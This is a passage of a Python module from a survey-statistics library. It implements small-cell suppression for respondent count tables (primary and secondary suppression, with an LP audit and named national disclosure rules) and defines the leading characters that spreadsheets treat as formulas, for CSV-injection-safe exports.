"""Disclosure control: small-cell suppression and spreadsheet-safe exports.

A survey that promised anonymity must not publish a table in which a cell of 1 names a
doctor ("the one paediatrician in Brittany who left"). This module does two things:

* :func:`suppress_small_cells` hides every count from 1 to ``min_cell − 1`` of a
  table of respondent counts (*primary* suppression, shown as ``"< 5"``), then hides
  as few other cells as it can so that no hidden cell can be recomputed from the row
  and column totals (*secondary* suppression, shown as ``"s"``). Percentages and
  intervals of hidden cells are hidden with them (:meth:`SuppressedTable.proportions`).
  :func:`needs_suppression` is the same rule for one count ``k`` of a base ``n``.
* :func:`spreadsheet_safe`, :func:`spreadsheet_safe_frame` and :func:`write_safe_csv`
  neutralise text cells that a spreadsheet would run as a formula (CSV injection)
  without changing any number.

The method, its choices and their sources are in ``docs/methods/disclosure.md``.
"""

from __future__ import annotations

import heapq
import math
import numbers
import os
import re
from collections.abc import Hashable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final, overload

import numpy as np

from optamstats._checks import (
    MAX_COUNT,
    InvalidTypeError,
    InvalidValueError,
    OptamstatsError,
    ShapeError,
    _show,
    as_float,
    check_choice,
)

if TYPE_CHECKING:
    import pandas as pd

    from optamstats._typing import IntArray

__all__ = [
    "DEFAULT_MIN_CELL",
    "FORMULA_TRIGGERS",
    "FRENCH_HEALTH_MIN_CELL",
    "RULES",
    "DisclosureAudit",
    "Hidden",
    "ProtectedCell",
    "SuppressedTable",
    "disclosure_audit",
    "needs_suppression",
    "spreadsheet_safe",
    "spreadsheet_safe_frame",
    "suppress_small_cells",
    "write_safe_csv",
]

#: Smallest count shown by default: counts from 1 to 4 are hidden.
DEFAULT_MIN_CELL: Final = 5
#: French health-data practice: no published cell below 11 (counts 1 to 10 hidden).
FRENCH_HEALTH_MIN_CELL: Final = 11
#: First characters that make a spreadsheet read a text cell as a formula (OWASP, ASVS
#: 1.2.10), plus line feed and NUL, which some applications strip before parsing.
FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")

#: Status codes of :attr:`SuppressedTable.status`.
SHOWN: Final = 0
PRIMARY: Final = 1
SECONDARY: Final = 2

# A text cell that is a plain number (optionally signed, decimal point or comma,
# thousands spaces, exponent) is data, not a formula: "-3", "-3,5", "+2.5e-3",
# "-1 234". It holds no function name, reference or operator beyond its sign, so
# nothing can run; leaving it alone keeps negative numbers readable as numbers.
_NUMBER: Final = re.compile(
    r"[+-]?(?:\d(?:[\d \u00a0\u202f]*\d)?(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?"
)
# Leading characters a spreadsheet may skip before reading "=": spaces of any kind.
_LEADING_SPACE: Final = " \u00a0\u202f\u2007\u2009\ufeff"


class Hidden(str):
    """A published cell hidden by disclosure control: ``"< 5"`` or ``"s"``.

    A string, so that any table, renderer or CSV writer shows it as it is; its type
    tells programs that the value was withheld, not missing.

    Examples
    --------
    >>> Hidden.below(5), Hidden.protecting()
    ('< 5', 's')
    """

    __slots__ = ()

    @classmethod
    def below(cls, min_cell: int) -> Hidden:
        """Return the marker of a count from 1 to ``min_cell − 1``.

        Parameters
        ----------
        min_cell : int
            The smallest count shown.

        Returns
        -------
        Hidden
            ``"< min_cell"``.
        """
        return cls(f"< {min_cell}")

    @classmethod
    def protecting(cls) -> Hidden:
        """Return the marker of a value hidden to protect another (or derived from one)."""
        return cls("s")


# --------------------------------------------------------------------------- validation


def check_min_cell(min_cell: object, name: str = "min_cell") -> int:
    """Return `min_cell` as an int ≥ 2, or raise naming the argument."""
    if isinstance(min_cell, bool | np.bool_) or not isinstance(min_cell, numbers.Real):
        raise InvalidTypeError(
            f"`{name}` must be a whole number of respondents ≥ 2, such as 5 (or 11 under "
            f"the French health-data rule); got {_show(min_cell)}."
        )
    value = as_float(min_cell)  # 10**400 is +inf, refused below
    if not math.isfinite(value) or not value.is_integer() or value < 2 or value > MAX_COUNT:
        raise InvalidValueError(
            f"`{name}` must be a whole number of respondents from 2 to 2**53, such as 5 (or "
            f"11 under the French health-data rule); got {_show(min_cell)}. To print every "
            "count, turn disclosure control off instead."
        )
    return int(value)


def check_rule(rule: object, name: str = "rule") -> tuple[str, int, int]:
    """Return ``(rule, threshold, rounding)`` for a named rule, or raise naming `name`."""
    if not isinstance(rule, str) or rule not in RULES:
        raise InvalidValueError(
            f"`{name}` must be one of {', '.join(repr(r) for r in RULES)} (thresholds "
            f"{', '.join(str(t) for t, _ in RULES.values())}); got {_show(rule)}."
        )
    threshold, rounding = RULES[rule]
    return rule, threshold, rounding


def _check_cells(counts: object, name: str) -> tuple[IntArray, tuple[Any, ...], tuple[Any, ...]]:
    """Return a table of counts as int64 (1-D or 2-D) with its row and column labels."""
    labels_rows: tuple[Any, ...] = ()
    labels_cols: tuple[Any, ...] = ()
    values: Any = counts
    kind = type(counts).__module__.split(".")[0]
    if kind == "pandas":
        import pandas as pd

        if isinstance(counts, pd.DataFrame):
            labels_rows, labels_cols = tuple(counts.index), tuple(counts.columns)
            values = counts.to_numpy(dtype=object)
        elif isinstance(counts, pd.Series):
            labels_rows = tuple(counts.index)
            values = counts.to_numpy(dtype=object)
        else:
            raise InvalidTypeError(
                f"`{name}` must be a table of counts (a DataFrame, Series, array or nested "
                f"lists of whole numbers); got a {type(counts).__name__}."
            )
    elif isinstance(counts, str | bytes) or not isinstance(counts, Sequence | np.ndarray):
        raise InvalidTypeError(
            f"`{name}` must be a table of counts (a DataFrame, Series, array or nested lists "
            f"of whole numbers); got {_show(counts)}."
        )
    try:
        array = np.asarray(values, dtype=object)
    except (TypeError, ValueError) as exc:  # ragged nested lists
        raise ShapeError(
            f"`{name}` must be rectangular: every row with the same number of cells; "
            f"got {_show(counts)}."
        ) from exc
    if array.ndim not in (1, 2):
        raise ShapeError(
            f"`{name}` must be a 1-D or 2-D table of counts; got {array.ndim} dimension(s) "
            f"(shape {array.shape}). Flatten extra characteristics into the rows."
        )
    if array.size == 0:
        raise ShapeError(f"`{name}` must hold at least one cell; got shape {array.shape}.")
    out = np.empty(array.shape, dtype=np.int64)
    for where, cell in np.ndenumerate(array):
        if isinstance(cell, Sequence | np.ndarray) and not isinstance(cell, str | bytes):
            raise ShapeError(
                f"`{name}` must be rectangular: every row with the same number of cells; "
                f"got {_show(counts)}."
            )
        out[where] = _cell_count(cell, name, where)
    if not labels_rows:
        labels_rows = tuple(range(array.shape[0]))
    if array.ndim == 2 and not labels_cols:
        labels_cols = tuple(range(array.shape[1]))
    return out, labels_rows, labels_cols


def _cell_count(cell: object, name: str, where: tuple[int, ...]) -> int:
    at = where[0] if len(where) == 1 else where
    if isinstance(cell, bool | np.bool_):
        raise InvalidTypeError(
            f"`{name}` must hold whole numbers of respondents, not booleans; got {cell!r} at {at}."
        )
    if isinstance(cell, numbers.Integral):
        value = int(cell)
    elif isinstance(cell, numbers.Real):
        number = float(cell)
        if not math.isfinite(number) or not number.is_integer():
            raise InvalidValueError(
                f"`{name}` must hold whole numbers of respondents; got {_show(cell)} at {at}. "
                "Suppression applies to counts, not to percentages or weighted totals."
            )
        value = int(number)
    else:
        raise InvalidTypeError(
            f"`{name}` must hold whole numbers of respondents; got {_show(cell)} at {at}."
        )
    if value < 0 or value > MAX_COUNT:
        raise InvalidValueError(f"`{name}` must hold counts from 0 to 2**53; got {value} at {at}.")
    return value


def _check_mask(mask: object, shape: tuple[int, ...], name: str) -> np.ndarray[Any, Any]:
    try:
        array = np.asarray(mask)
    except (TypeError, ValueError):  # ragged nested lists
        array = np.asarray(None)
    if array.dtype != np.bool_:
        raise InvalidTypeError(
            f"`{name}` must be a boolean mask of the table's cells (True = hide); got dtype "
            f"{array.dtype}."
        )
    if array.shape != shape:
        raise ShapeError(f"`{name}` must have the table's shape {shape}; got {array.shape}.")
    return array


def _counts(name: str, value: object) -> Any:
    """One count (int) or an array of counts, validated (an empty base of 0 is allowed)."""
    from optamstats._checks import _array_count, _scalar_count

    scalar = _scalar_count(name, value)
    return scalar if scalar is not None else _array_count(name, value)


# --------------------------------------------------------------------------- the rule


def _is_small(k: Any, threshold: int, n: Any = None) -> Any:
    """Apply the threshold rule to checked counts: ``1 ≤ k < t``, or ``1 ≤ n − k < t``.

    The one place that decides what is small: :func:`needs_suppression` calls it after
    checking its arguments, and :mod:`optamstats.breakdowns` to pool its small groups.
    Python ints give a bool, arrays an array of bool.
    """
    small = (k >= 1) & (k < threshold)
    if n is not None:
        rest = n - k
        small = small | ((rest >= 1) & (rest < threshold))
    return small


@overload
def needs_suppression(k: int, n: int | None = None, *, min_cell: int = ...) -> bool: ...
@overload
def needs_suppression(
    k: Any, n: Any = None, *, min_cell: int = ...
) -> bool | np.ndarray[Any, np.dtype[np.bool_]]: ...
def needs_suppression(
    k: Any, n: Any = None, *, min_cell: int = DEFAULT_MIN_CELL
) -> bool | np.ndarray[Any, np.dtype[np.bool_]]:
    """Tell whether a count of respondents must be hidden (primary suppression).

    A count ``k`` is hidden when ``1 ≤ k < min_cell``. With its base ``n``, the
    complementary count ``n − k`` (those who did not tick, or did not leave) is a
    cell of the same two-cell table and is checked too: 48 of 50 reveals that 2 did
    not. Zero is shown: it names nobody.

    Parameters
    ----------
    k : int or array of int
        Respondents counted.
    n : int or array of int, optional
        The base the count is a part of.
    min_cell : int, default 5
        Smallest count shown; 11 follows the French health-data practice of publishing
        no count from 1 to 10 (``FRENCH_HEALTH_MIN_CELL``).

    Returns
    -------
    bool or ndarray of bool
        True where the count (or its complement) must be hidden.

    Raises
    ------
    InvalidValueError
        Negative or fractional counts, ``k > n``, or a `min_cell` below 2.
    InvalidTypeError
        Non-numeric counts or `min_cell`.

    References
    ----------
    .. [1] A. Hundepool et al., *Statistical Disclosure Control*, Wiley, 2012, ch. 5
       (frequency tables: the threshold rule).
    .. [2] Health Data Hub, documentation collaborative du SNDS, fiche
       « Téléconsultations » (2022): « Les effectifs inférieurs à 11 ne sont pas
       restitués. »

    Examples
    --------
    >>> needs_suppression(3)
    True
    >>> needs_suppression(48, 50)  # 2 did not
    True
    >>> needs_suppression([0, 4, 5, 12], 50, min_cell=11).tolist()
    [False, True, True, False]
    """
    threshold = check_min_cell(min_cell)
    k_c = _counts("k", k)
    if n is None:
        small = _is_small(k_c, threshold)
    else:
        n_c = _counts("n", n)
        try:
            k_b, n_b = np.broadcast_arrays(k_c, n_c)
        except ValueError as exc:
            raise ShapeError(
                f"`k` and `n` must have shapes that broadcast together; got {np.shape(k_c)} "
                f"and {np.shape(n_c)}."
            ) from exc
        over = k_b > n_b
        if over.any():
            where = tuple(int(i) for i in np.argwhere(over)[0]) if over.ndim else ()
            at = f" at index {where}" if where else ""
            raise InvalidValueError(
                f"`k` must be ≤ `n`; got k={k_b[where]:g} > n={n_b[where]:g}{at}. Check that "
                "the count and its base refer to the same respondents."
            )
        small = _is_small(k_b, threshold, n_b)
    return bool(small) if np.ndim(small) == 0 else np.asarray(small, dtype=bool)


# --------------------------------------------------------------------------- the table


@dataclass(frozen=True, slots=True, repr=False)
class SuppressedTable:
    """A table of counts with its primary and secondary suppressions.

    The table is kept *with its margins* when they are published: a last row of column
    totals, a last column of row totals (a 1-D table: a last cell, the total). A margin
    may itself be hidden when nothing else protects a cell (a one-row table).

    Attributes
    ----------
    counts : ndarray of int64
        The true counts, margins included (``shape`` + 1 along each axis when
        `margins`). Never publish this attribute: publish :meth:`display`,
        :meth:`to_frame` or :meth:`proportions`.
    status : ndarray of int8
        Same shape: 0 shown, 1 primary (a count from 1 to ``min_cell − 1``, or asked
        by the caller), 2 secondary (hidden so that no primary can be recomputed).
    min_cell : int
        Smallest count shown.
    margins : bool
        Whether the totals are part of the published table.
    rows, columns : tuple
        Labels, totals included (``"Total"``). A 1-D table has no columns.

    References
    ----------
    .. [1] L. H. Cox, "Suppression methodology and statistical disclosure control",
       J. Amer. Statist. Assoc. 75(370):377–385, 1980.

    Examples
    --------
    >>> t = suppress_small_cells([[12, 3, 20], [15, 9, 30]])
    >>> print(t.display())
            0    1   2 Total
    0       s  < 5  20    35
    1       s    s  30    54
    Total  27   12  50    89
    """

    counts: IntArray
    status: np.ndarray[Any, np.dtype[np.int8]]
    min_cell: int
    margins: bool
    rows: tuple[Any, ...]
    columns: tuple[Any, ...] = ()

    @property
    def suppressed(self) -> np.ndarray[Any, np.dtype[np.bool_]]:
        """Mask of hidden cells (primary or secondary), margins included."""
        return np.asarray(self.status != SHOWN)

    @property
    def primary(self) -> np.ndarray[Any, np.dtype[np.bool_]]:
        """Mask of cells hidden for their own count."""
        return np.asarray(self.status == PRIMARY)

    @property
    def secondary(self) -> np.ndarray[Any, np.dtype[np.bool_]]:
        """Mask of cells hidden to protect another one."""
        return np.asarray(self.status == SECONDARY)

    @property
    def n_suppressed(self) -> int:
        """Number of hidden cells, margins included."""
        return int(np.count_nonzero(self.status))

    def label(self, where: tuple[int, ...] | int, lang: str = "en") -> str:
        """Return what a reader sees in one cell: the count, ``"< 5"`` or ``"s"``.

        Parameters
        ----------
        where : int or tuple of int
            The cell's index.
        lang : {"en", "fr"}
            Thousands separator of shown counts.

        Returns
        -------
        str
            The cell as displayed.
        """
        status = int(self.status[where])
        value = int(self.counts[where])
        if status != SHOWN:
            # "< 5" only where it is true: a cell hidden for its complement, or to
            # protect another, may hold any count.
            small = status == PRIMARY and 1 <= value < self.min_cell
            return Hidden.below(self.min_cell) if small else Hidden.protecting()
        text = f"{value:,}"
        return text.replace(",", "\u202f") if lang == "fr" else text

    def display(self, lang: str = "en") -> pd.DataFrame:
        """Return the table as people may see it: strings, hidden cells as ``< 5`` or ``s``.

        Parameters
        ----------
        lang : {"en", "fr"}
            Thousands separator (``1,234`` or ``1 234``).

        Returns
        -------
        pandas.DataFrame
            One string per cell, margins included.

        Examples
        --------
        >>> print(suppress_small_cells([2, 10, 30]).display())
              count
        0       < 5
        1         s
        2        30
        Total    42
        """
        import pandas as pd

        check_choice("lang", lang, ("en", "fr"))
        cells = np.empty(self.counts.shape, dtype=object)
        for where in np.ndindex(*self.counts.shape):
            cells[where] = self.label(where, lang)
        if self.counts.ndim == 1:
            return pd.DataFrame({"count": cells}, index=list(self.rows))
        return pd.DataFrame(cells, index=list(self.rows), columns=list(self.columns))

    def to_frame(self) -> pd.DataFrame:
        """Return a tidy table: one row per cell, hidden counts as ``<NA>``.

        Returns
        -------
        pandas.DataFrame
            Columns ``row`` (and ``column`` for 2-D tables), ``count`` (nullable
            ``Int64``: ``<NA>`` where hidden), ``status`` (``"shown"``, ``"primary"``,
            ``"secondary"``) and ``display`` (what a reader sees).

        Examples
        --------
        >>> suppress_small_cells([2, 10, 30]).to_frame()
             row  count     status display
        0      0   <NA>    primary     < 5
        1      1   <NA>  secondary       s
        2      2     30      shown      30
        3  Total     42      shown      42
        """
        import pandas as pd

        names = {SHOWN: "shown", PRIMARY: "primary", SECONDARY: "secondary"}
        records: dict[str, list[Any]] = {"row": []}
        if self.counts.ndim == 2:
            records["column"] = []
        records.update({"count": [], "status": [], "display": []})
        for where in np.ndindex(*self.counts.shape):
            records["row"].append(self.rows[where[0]])
            if self.counts.ndim == 2:
                records["column"].append(self.columns[where[1]])
            hidden = bool(self.status[where])
            records["count"].append(pd.NA if hidden else int(self.counts[where]))
            records["status"].append(names[int(self.status[where])])
            records["display"].append(self.label(where))
        frame = pd.DataFrame(records)
        frame["count"] = frame["count"].astype("Int64")
        return frame

    def proportions(
        self, by: str = "row", *, confidence: float = 0.95, method: str = "wilson"
    ) -> pd.DataFrame:
        """Return each cell as a share of its row, column or grand total, with intervals.

        Percentages and intervals of hidden cells are hidden too, and so are all the
        shares of a row (column) whose total is hidden: a share and its count give the
        total back.

        Parameters
        ----------
        by : {"row", "column", "total"}
            The base of each share. 1-D tables accept ``"total"`` (and ``"row"`` as
            its synonym).
        confidence : float
            Level of the intervals.
        method : str
            Interval method of :func:`optamstats.proportion`.

        Returns
        -------
        pandas.DataFrame
            Columns ``row`` (``column``), ``k``, ``n``, ``estimate``, ``low``, ``high``
            (nullable: ``<NA>`` where hidden) and ``status`` of the cell. Margins are
            not rows of this table.

        Raises
        ------
        InvalidValueError
            `by` is not a base of this table, or the table has no published margins
            (shares of unpublished totals would reveal them).

        Examples
        --------
        >>> t = suppress_small_cells([[12, 3, 20], [15, 9, 30]])
        >>> t.proportions("row")[["row", "column", "k", "estimate"]].round(3)
           row  column     k  estimate
        0    0       0  <NA>      <NA>
        1    0       1  <NA>      <NA>
        2    0       2    20     0.571
        3    1       0  <NA>      <NA>
        4    1       1  <NA>      <NA>
        5    1       2    30     0.556
        """
        import pandas as pd

        from optamstats.proportions import proportion

        choices = ("row", "total") if self.counts.ndim == 1 else ("row", "column", "total")
        by = check_choice("by", by, choices)
        if not self.margins:
            raise InvalidValueError(
                "`by`: shares need published totals, and this table was suppressed with "
                "`margins=False`. Suppress it again with `margins=True`."
            )
        cells = list(np.ndindex(*(s - 1 for s in self.counts.shape)))
        bases = [_base_of(w, by) for w in cells]
        k = np.array([self.counts[w] for w in cells], dtype=np.int64)
        n = np.array([self.counts[b] for b in bases], dtype=np.int64)
        base_hidden = np.array([bool(self.status[b]) for b in bases], dtype=bool)
        hidden = np.array([bool(self.status[w]) for w in cells], dtype=bool)
        hidden |= base_hidden | (n == 0)  # an empty row has no shares
        safe_n = np.where(n == 0, 1, n)
        result = proportion(np.minimum(k, safe_n), safe_n, confidence=confidence, method=method)
        names = {SHOWN: "shown", PRIMARY: "primary", SECONDARY: "secondary"}

        def nullable(values: Any, dtype: Any, mask: np.ndarray[Any, Any]) -> pd.Series:
            series: pd.Series = pd.Series(np.asarray(values)).astype(dtype)
            series[mask] = pd.NA
            return series

        data: dict[str, Any] = {"row": [self.rows[w[0]] for w in cells]}
        if self.counts.ndim == 2:
            data["column"] = [self.columns[w[1]] for w in cells]
        frame = pd.DataFrame(data)
        frame["k"] = nullable(k, "Int64", np.array([bool(self.status[w]) for w in cells]))
        frame["n"] = nullable(n, "Int64", base_hidden)
        frame["estimate"] = nullable(result.estimate, "Float64", hidden)
        frame["low"] = nullable(result.low, "Float64", hidden)
        frame["high"] = nullable(result.high, "Float64", hidden)
        frame["status"] = [names[int(self.status[w])] for w in cells]
        return frame

    def __repr__(self) -> str:
        shape = "×".join(str(s) for s in self.counts.shape)
        return (
            f"SuppressedTable({shape} with margins={self.margins}, min_cell={self.min_cell}: "
            f"{int(np.count_nonzero(self.primary))} primary, "
            f"{int(np.count_nonzero(self.secondary))} secondary)"
        )

    def _repr_html_(self) -> str:
        """Return the displayed table as HTML (Jupyter)."""
        import html

        frame = self.display()
        head = "".join(f"<th>{html.escape(str(c))}</th>" for c in frame.columns)
        body = "".join(
            f"<tr><th>{html.escape(str(label))}</th>"
            + "".join(f"<td>{html.escape(str(v))}</td>" for v in row)
            + "</tr>"
            for label, row in zip(frame.index, frame.to_numpy(), strict=True)
        )
        return (
            f"<table><caption>{html.escape(repr(self))}</caption><thead><tr><th></th>{head}"
            f"</tr></thead><tbody>{body}</tbody></table>"
        )


def _base_of(cell: tuple[int, ...], by: str) -> tuple[int, ...]:
    """Where the base of a share of `cell` is in the table with margins."""
    if len(cell) == 1:
        return (-1,)
    if by == "row":
        return (cell[0], -1)
    return (-1, cell[1]) if by == "column" else (-1, -1)


def suppress_small_cells(
    counts: Any,
    min_cell: int = DEFAULT_MIN_CELL,
    *,
    margins: bool = True,
    primary: Any = None,
    audit: bool = True,
) -> SuppressedTable:
    """Hide the small cells of a table of respondent counts, and what would reveal them.

    Primary suppression hides every count from 1 to ``min_cell − 1`` (and the cells of
    `primary`). Secondary suppression then hides further cells until no hidden cell can
    be recomputed from the published ones and the totals: in a 2-D table with its
    margins, a hidden cell is recomputable exactly when it lies on no cycle of hidden
    cells (rows and columns as the two sides of a bipartite graph, hidden cells as its
    edges — such a cell is a *bridge*). Each bridge is closed into a cycle along the
    cheapest path of cells, cost = the count hidden (zeros last: a hidden zero protects
    little, since counts cannot go below it), until no bridge is left.

    Parameters
    ----------
    counts : DataFrame, Series, array or nested lists of int
        A 1-D or 2-D table of respondent counts, without totals. Labels of a DataFrame
        or Series are kept.
    min_cell : int, default 5
        Smallest count shown. 11 follows the French health-data practice
        (``FRENCH_HEALTH_MIN_CELL``).
    margins : bool, default True
        Whether row, column and grand totals are published with the table. Without
        them nothing can be recomputed, and only primary suppression is applied.
    primary : array of bool, optional
        Cells to hide whatever their count (e.g. ``needs_suppression(k, n)`` for the
        complement of each cell in its base).
    audit : bool, default True
        After the bridge rule, audit the printed table by linear programming (the
        ``< t`` markers are bounds 1 … t − 1 that, with the totals, can pin cells) and
        hide more cells until every primary cell keeps its protection interval. It
        costs about 20 s on a 30 × 12 table with 150 small cells (milliseconds on
        small tables); False skips it and keeps only the bridge guarantee.

    Returns
    -------
    SuppressedTable
        Publish :meth:`~SuppressedTable.display`, :meth:`~SuppressedTable.to_frame` or
        :meth:`~SuppressedTable.proportions`.

    Raises
    ------
    InvalidTypeError
        Non-numeric cells or `min_cell`, a `primary` that is not boolean.
    InvalidValueError
        Negative or fractional counts, `min_cell` below 2.
    ShapeError
        A table that is empty, ragged or more than 2-D; a `primary` of another shape.

    Notes
    -----
    The algorithm is a greedy heuristic, not the optimal (fewest hidden cells) solution
    of sdcTable's ``protectTable(method="OPT")`` or tau-ARGUS. The bridge rule
    guarantees that no hidden cell is determined by the linear row and column
    equations; the audit (`audit`) then guarantees each primary cell's protection
    interval given the markers' bounds too (issue 16, attack 4).

    References
    ----------
    .. [1] L. H. Cox, "Suppression methodology and statistical disclosure control",
       J. Amer. Statist. Assoc. 75(370):377–385, 1980.
    .. [2] A. Hundepool et al., *Statistical Disclosure Control*, Wiley, 2012, ch. 5.
    .. [3] R. E. Tarjan, "A note on finding the bridges of a graph", Inform. Process.
       Lett. 2(6):160–161, 1974.

    Examples
    --------
    One cell of 3 in a 2 × 3 table: hiding it alone, or with one more cell of its
    row, would let the totals give it back; a cycle of four cells is hidden, through
    the cheapest column (12 + 15 + 9 < 20 + 30 + 9).

    >>> t = suppress_small_cells([[12, 3, 20], [15, 9, 30]])
    >>> int(t.primary.sum()), int(t.secondary.sum())
    (1, 3)
    >>> print(t.display())
            0    1   2 Total
    0       s  < 5  20    35
    1       s    s  30    54
    Total  27   12  50    89
    """
    threshold = check_min_cell(min_cell)
    if not isinstance(margins, bool | np.bool_):
        raise InvalidTypeError(f"`margins` must be True or False; got {_show(margins)}.")
    if not isinstance(audit, bool | np.bool_):
        raise InvalidTypeError(f"`audit` must be True or False; got {_show(audit)}.")
    cells, rows, columns = _check_cells(counts, "counts")
    forced = (
        np.zeros(cells.shape, dtype=bool)
        if primary is None
        else _check_mask(primary, cells.shape, "primary")
    )
    small = ((cells >= 1) & (cells < threshold)) | forced
    if not margins:
        status = np.where(small, PRIMARY, SHOWN).astype(np.int8)
        return SuppressedTable(cells, status, threshold, False, rows, columns)
    if cells.ndim == 1:
        table = np.append(cells, cells.sum())
        status = np.zeros(table.shape, dtype=np.int8)
        status[:-1][small] = PRIMARY
        _protect_1d(table, status)
        if audit:  # as a one-row table: the same constraints, the same audit
            flat = np.vstack([table, table])
            grid = np.zeros((2, table.size), dtype=np.int8)
            grid[0] = status
            grid[1] = status
            _protect_by_audit(flat, grid, threshold)
            status[:] = np.maximum(grid[0], grid[1])  # a column total is its cell
        return SuppressedTable(table, status, threshold, True, (*rows, "Total"), ())
    table = np.zeros((cells.shape[0] + 1, cells.shape[1] + 1), dtype=np.int64)
    table[:-1, :-1] = cells
    table[:-1, -1] = cells.sum(axis=1)
    table[-1, :-1] = cells.sum(axis=0)
    table[-1, -1] = cells.sum()
    status = np.zeros(table.shape, dtype=np.int8)
    status[:-1, :-1][small] = PRIMARY
    _protect_2d(table, status)
    if audit:
        _protect_by_audit(table, status, threshold)
    return SuppressedTable(table, status, threshold, True, (*rows, "Total"), (*columns, "Total"))


def _protect_by_audit(table: IntArray, status: np.ndarray[Any, Any], threshold: int) -> None:
    """Hide more cells until the LP audit protects every primary cell (issue 16, attack 4).

    The bridge rule makes no hidden cell a linear function of the published ones, but
    the bounds the markers print ("< 5": 1 … 4) can still pin cells: two "< 5" cells
    whose row gives them a sum of 2 are both 1, and the column totals then give their
    cycle back. The table, as printed, is read into the audit's constraints (shown
    cells and totals, markers as bounds), and shown cells are hidden — the first that
    widens a pinned cell's range, else the cheapest — until every primary cell keeps
    its protection interval.
    """
    rows, cols = table.shape[0] - 1, table.shape[1] - 1
    if not status.any():
        return
    var = {(i, j): i * cols + j for i in range(rows) for j in range(cols)}
    total = int(table[-1, -1])

    def terms(i: int, j: int) -> Terms:
        if i < rows and j < cols:
            return ((var[i, j], 1.0),)
        if i < rows:
            return tuple((var[i, k], 1.0) for k in range(cols))
        if j < cols:
            return tuple((var[k, j], 1.0) for k in range(rows))
        return tuple((v, 1.0) for v in var.values())

    def model() -> _Model:
        facts = []
        protect = []
        for (i, j), value in np.ndenumerate(table):
            margin = i == rows or j == cols
            if not status[i, j]:
                cost = float(total * 2 + value) if margin else float(_cost(int(value), total))
                facts.append(_Fact(terms(i, j), int(value), int(value), group=f"{i},{j}",
                                   cost=cost))  # fmt: skip
            elif status[i, j] == PRIMARY and 1 <= value < threshold:
                facts.append(_Fact(terms(i, j), 1, threshold - 1))
            if status[i, j] == PRIMARY:
                protect.append(_Protect(terms(i, j), 0, threshold, f"cell {i}, {j}"))
        return _Model(tuple(map(str, var)), tuple(facts), tuple(protect), "table", threshold)

    hidden, _ = _secondary_by_audit(model())
    for group in hidden:
        i, j = (int(x) for x in group.split(","))
        status[i, j] = SECONDARY


# --------------------------------------------------------------------------- secondary


def _cost(value: int, total: int) -> int:
    """Cost of hiding a cell: its count; a zero last (it only bounds from below)."""
    return value if value > 0 else total + 1


def _protect_1d(table: IntArray, status: np.ndarray[Any, Any]) -> None:
    """Cells and their total obey one equation: two unknowns or more are safe."""
    hidden = np.flatnonzero(status)
    if hidden.size != 1:
        return
    total = int(table[-1])
    candidates = [i for i in range(table.size) if not status[i]]
    # The published total is itself an unknown candidate (a one-cell table).
    best = min(candidates, key=lambda i: (_cost(int(table[i]), total), i))
    status[best] = SECONDARY


def _bridges(n_rows: int, n_cols: int, edges: list[tuple[int, int]]) -> list[tuple[int, int]]:
    """Bridges of the bipartite graph rows + columns, by Tarjan's lowlink (iterative)."""
    n_nodes = n_rows + n_cols
    adjacency: list[list[tuple[int, int]]] = [[] for _ in range(n_nodes)]
    for e, (i, j) in enumerate(edges):
        adjacency[i].append((n_rows + j, e))
        adjacency[n_rows + j].append((i, e))
    order = [-1] * n_nodes
    low = [0] * n_nodes
    found: list[tuple[int, int]] = []
    counter = 0
    for root in range(n_nodes):
        if order[root] != -1 or not adjacency[root]:
            continue
        order[root] = low[root] = counter
        counter += 1
        stack: list[tuple[int, int, int]] = [(root, -1, 0)]  # node, edge in, next index
        while stack:
            node, via, nxt = stack[-1]
            if nxt < len(adjacency[node]):
                stack[-1] = (node, via, nxt + 1)
                other, e = adjacency[node][nxt]
                if e == via:
                    continue
                if order[other] == -1:
                    order[other] = low[other] = counter
                    counter += 1
                    stack.append((other, e, 0))
                else:
                    low[node] = min(low[node], order[other])
                continue
            stack.pop()
            if stack:
                parent = stack[-1][0]
                low[parent] = min(low[parent], low[node])
                if low[node] > order[parent]:
                    found.append(edges[via])
    return sorted(found)


def _cheapest_cycle(
    table: IntArray, status: np.ndarray[Any, Any], bridge: tuple[int, int]
) -> list[tuple[int, int]]:
    """Cells to hide so that `bridge` lies on a cycle: cheapest row-to-column path.

    Dijkstra on the complete bipartite graph without the bridge itself; hidden cells
    cost nothing, a shown cell its :func:`_cost`.
    """
    n_rows, n_cols = table.shape
    total = int(table[-1, -1])
    start, goal = bridge[0], n_rows + bridge[1]
    dist = {start: 0}
    previous: dict[int, int] = {}
    heap = [(0, start)]
    done: set[int] = set()
    while heap:
        d, node = heapq.heappop(heap)
        if node in done:
            continue
        done.add(node)
        if node == goal:
            break
        if node < n_rows:
            neighbours = ((n_rows + j, (node, j)) for j in range(n_cols))
        else:
            neighbours = ((i, (i, node - n_rows)) for i in range(n_rows))
        for other, cell in neighbours:
            if cell == bridge or other in done:
                continue
            weight = 0 if status[cell] else _cost(int(table[cell]), total)
            if d + weight < dist.get(other, math.inf):
                dist[other] = d + weight
                previous[other] = node
                heapq.heappush(heap, (d + weight, other))
    path: list[tuple[int, int]] = []
    node = goal
    while node != start:
        before = previous[node]
        cell = (before, node - n_rows) if before < n_rows else (node, before - n_rows)
        if not status[cell]:
            path.append(cell)
        node = before
    return path


def _protect_2d(table: IntArray, status: np.ndarray[Any, Any]) -> None:
    """Secondary suppression of a table with its margins, until no hidden cell is a bridge.

    With margins, the table (R + 1) × (C + 1) has every row and column sum known once
    the totals are signed (−1 on the margins), so a hidden cell is recomputable exactly
    when it is a bridge of the graph of hidden cells. Adding cells never turns a
    non-bridge into a bridge, and each round puts one bridge on a cycle: this ends.
    """
    n_rows, n_cols = table.shape
    while True:
        edges = [(int(i), int(j)) for i, j in zip(*np.nonzero(status), strict=True)]
        bridges = _bridges(n_rows, n_cols, edges)
        if not bridges:
            return
        for cell in _cheapest_cycle(table, status, bridges[0]):
            status[cell] = SECONDARY


# --------------------------------------------------------------------------- the LP audit

#: Named disclosure rules: (threshold t, rounding base of published counts). Sources in
#: ``docs/methods/disclosure.md``: ``insee`` — INSEE's statistical secrecy on fewer than
#: 3 units; ``ons`` — ONS Census 2021, cells below 10 suppressed and counts rounded to 5;
#: ``health-fr`` — SNDS results via CASD / Health Data Hub, no count below 11.
RULES: Final[dict[str, tuple[int, int]]] = {
    "default": (DEFAULT_MIN_CELL, 1),
    "insee": (3, 1),
    "ons": (10, 5),
    "health-fr": (FRENCH_HEALTH_MIN_CELL, 1),
}

